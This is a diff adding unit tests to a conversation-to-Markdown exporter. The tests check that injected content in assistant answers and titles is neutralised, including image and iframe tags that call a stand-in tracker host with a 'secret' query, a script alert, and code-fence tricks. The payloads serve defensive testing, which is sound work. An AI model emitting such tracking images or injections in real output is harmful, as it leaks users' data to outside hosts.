@@ -14,6 +14,35 @@ describe('a conversation as Markdown', () => {
   });
 });
 
+describe('what an answer has in it', () => {
+  const tracker = 'https://tracker.example/?told=secret';
+  const exported = (...texts: string[]): string => toMarkdown({ title: `<img src="${tracker}">`, messages: texts.map((text, at) => createMessage(`a${at}`, 'assistant', text)), strings, language: 'en' });
+
+  it.each([
+    `![a](${tracker})`,
+    `![a][b]\n\n[b]: ${tracker}`,
+    `<img src="${tracker}">`,
+    `<IFRAME src="${tracker}"></IFRAME>`,
+    `\`\`\` \`<img src="${tracker}">`,
+    `Tea\n\n    \`\`\`\n<img src="${tracker}">`,
+    `\`\`\`\n~~~\n\`\`\`\n<img src="${tracker}">`,
+    `- \`\`\`\n<img src="${tracker}">`,
+    '<script>alert(1)</script>',
+    '<!-- <!doctype html><?xml',
+  ])('loads and runs nothing where the file is shown: %j', (text) => {
+    expect(exported(text)).not.toMatch(/<[a-z/!?]|!\[/i);
+  });
+
+  it('does not come out of one answer’s code in the next', () => {
+    expect(exported('```\ncode', `\`\`\`\n<img src="${tracker}">`)).not.toMatch(/<img/);
+  });
+
+  it('is the same in blocks of code, and where it is an address', () => {
+    const text = ['See <https://tea.example>, 1 < 2:', '```html', '<img src="a.png"> ![a](b)', '```', 'Done.'].join('\n');
+    expect(exported(text)).toContain(text);
+  });
+});
+
 describe('the name of a file', () => {
   it.each([
     ['How much is it?', 'How much is it.md'],
